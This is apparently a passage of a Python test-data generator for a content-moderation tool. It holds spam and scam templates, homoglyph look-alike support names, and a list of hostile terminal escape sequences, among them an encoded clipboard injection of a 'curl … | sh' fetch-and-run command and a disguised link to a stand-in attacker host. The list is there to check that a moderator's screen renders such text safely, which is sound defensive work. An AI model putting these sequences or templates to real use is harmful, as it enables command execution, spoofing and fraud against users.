    "impersonation": ("this is pretending to be me", "fake support account"),
    "election_misinfo": ("false information about the vote", "fake news about the election"),
    "other": ("I don't like this", "inappropriate", "???"),
}
USER_COMMENT_SHARE = 0.35
# Reasons users pick when they disagree with the majority of an item's reporters.
STRAY_REASONS = ("spam", "harassment", "hate_speech", "other", "scam_fraud", "other", "spam", "harassment")  # 8: one getrandbits(3)
FLAGGER_COMMENT = "Assessed by our analysts as illegal under national law. Notice under Art. 22 DSA."

DOMAINS = {
    "spam": ("cutly.example", "fast-followers.example", "go2.example"),
    "scam_fraud": ("parcel-fee.example", "secure-verify.example", "prize-claim.example"),
    "hate_speech": ("true-patriots.example", "blog-spot.example"),
    "harassment": ("pics-share.example",),
    "violent_extremism": ("archive-mirror.example", "files-drop.example"),
    "csam": ("files-share.example",),
    "self_harm": ("blog-spot.example",),
    "graphic_violence": ("vid-clip.example", "liveleak-mirror.example"),
    "illegal_goods": ("darkshop.example", "meds-direct.example"),
    "ip_infringement": ("movies-hd.example", "free-courses.example", "stream-live.example"),
    "privacy_doxxing": ("paste-bin.example",),
    "impersonation": ("account-help.example", "support-verify.example"),
    "election_misinfo": ("news-truth.example", "vote-info.example"),
    "other": ("recipes.example", "photos.example", "vid-clip.example"),
}

MEDIA_TYPES = (("image/jpeg", 20_000, 4_000_000), ("image/png", 10_000, 3_000_000),
               ("image/webp", 10_000, 2_000_000), ("image/gif", 50_000, 8_000_000),
               ("video/mp4", 500_000, 200_000_000))

DISPLAY_NAMES = (
    "Lena Weber", "Tom Becker", "Emily Clarke", "Jake Morgan", "Camille Martin", "Lucas Bernard",
    "María García", "Javier López", "João Silva", "Ana Souza", "Kasia Nowak", "Piotr Kowalski",
    "Elif Yılmaz", "Mehmet Kaya", "Анна Смирнова", "Дмитрий Иванов", "Олена Коваленко",
    "محمد أحمد", "فاطمة علي", "سارا محمدی", "علی رضایی", "प्रिया शर्मा", "राहुल वर्मा",
    "王伟", "李娜", "佐藤 美咲", "鈴木 大輔", "김민준", "이서연", "Mo", "Sam", "daily news",
    "🌸 Lena", "crypto king 👑", "Jules ✨", "Nico R.", "Priya S.", "Ben T.", "Olu A.", "Chloé D.",
)
HANDLE_NAMES = (
    "lena", "tom", "emily", "jake", "camille", "lucas", "maria", "javi", "joao", "ana", "kasia",
    "piotr", "elif", "mehmet", "anna", "dima", "olena", "mohamed", "fatima", "sara", "ali",
    "priya", "rahul", "wei", "lina", "misaki", "daisuke", "minjun", "seoyeon", "sam", "nico",
)

# Related accounts posting one spam template with small variations: lowercasing and
# dropping digits, punctuation and spaces makes every variant of a campaign identical.
# Case variations are applied only to ASCII templates (ß, İ and friends do not round-trip).
CAMPAIGNS: tuple[tuple[str, str, str, str, str], ...] = (
    # (handle family, language, reason, template, end-of-sentence punctuation choices)
    ("crypto_gains", "en", "spam", "🚀 Turn ${a} into ${b} in {d} days with my signals{x} DM @{h} on Telegram 📈", "!|!!|!!!|.|!!!!"),
    ("moon_signals", "en", "spam", "💎 Only {d} slots left in my VIP group{x} {a}% profit every week, message @{h} now", "!|!!|.|!!!"),
    ("boost_followers", "en", "spam", "Get {b} followers in {d} hours{x} Cheapest price, DM @{h}", "!|!!|.|!!!"),
    ("paket_zustell", "de", "scam_fraud", "Ihr Paket Nr. {b} wartet auf Zustellung{x} Zollgebühr {d},99 € jetzt zahlen: https://paket-zoll.example/{a}", "!|.|!!"),
    ("pix_premiado", "pt", "scam_fraud", "🎁 Você ganhou R$ {a}{x} Resgate seu Pix em até {d} horas: https://pix-premio.example/{b}", "!|!!|!!!"),
    ("bonus_kazino", "ru", "spam", "🎰 Бонус {a} ₽ за регистрацию{x} Пиши @{h}, осталось {d} мест", "!|!!|."),
    ("trabajo_facil", "es", "spam", "¿Quieres ganar {a} € al mes desde casa{x} Escribe a @{h} 📲", "?|??|?!"),
    ("takipci_market", "tr", "spam", "{b} takipçi sadece {d} TL{x} DM @{h}", "!|!!|."),
)
CAMPAIGN_ACCOUNTS = 20
CAMPAIGN_VARIANTS = 24
ITEMS_PER_NEW_CAMPAIGN = 2500  # one more campaign becomes active every so many items

# Hostile text, as (prefix, suffix) around a field's own text. Every one of these must
# reach the moderator's screen as visible evidence, never as a terminal command or markup.
OSC52 = "\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"  # "curl -s https://evil.example/x | sh"
HOSTILE_WRAPS: tuple[tuple[str, str], ...] = (
    ("\x1b[1;31m", "\x1b[0m"),
    ("\x1b[2K\x1b[1A\x1b[32m✔ approved\x1b[0m ", ""),
    ("", "\x1b[2J\x1b[H"),
    ("", " " + OSC52),
    ("\x1b]8;;https://evil.example/login\x1b\\", "\x1b]8;;\x1b\\"),
    ("\x9b31m", "\x9b0m"),
    ("\x85\x9d0;owned\x9c", ""),
    ("[bold red]", "[/]"),
    ("[@click=app.quit]click me[/] ", ""),
    ("", " [/"),
    ("\u202e", "\u202c"),
    ("\u2066", "\u2069"),
    ("\u2067", "\u2069"),
    ("\u2068", "\u2069"),
    ("\u200b", "\ufeff"),
    ("\u2060", "\u200d"),
    ("\u200c", "\u200b"),
)
# Channel names and display names mixing Latin with Cyrillic or Greek look-alikes.
HOMOGLYPH_NAMES = (
    "Раypal Support",  # Cyrillic Р, а
    "Аpple Ѕupport Center",  # Cyrillic А, Ѕ
    "Micrоsoft Security Team",  # Cyrillic о
    "Τelegram Αdmins",  # Greek Τ, Α
    "Binаnce Official",  # Cyrillic а
    "Netflіx Help",  # Cyrillic і
)
BIG_BODY_CHARS = 100 * 1024


@cache
def _big_bodies() -> tuple[str, str]:
    """Two 100 KiB bodies: one unbroken line, and many short lines. Made once and shared."""
    line = "BUY CHEAP FOLLOWERS NOW!!! "
    wall = (line * (BIG_BODY_CHARS // len(line) + 1))[:BIG_BODY_CHARS]
    rows = ("spam spam spam 🥫\n" * (BIG_BODY_CHARS // 10))[:BIG_BODY_CHARS]
    return wall, rows
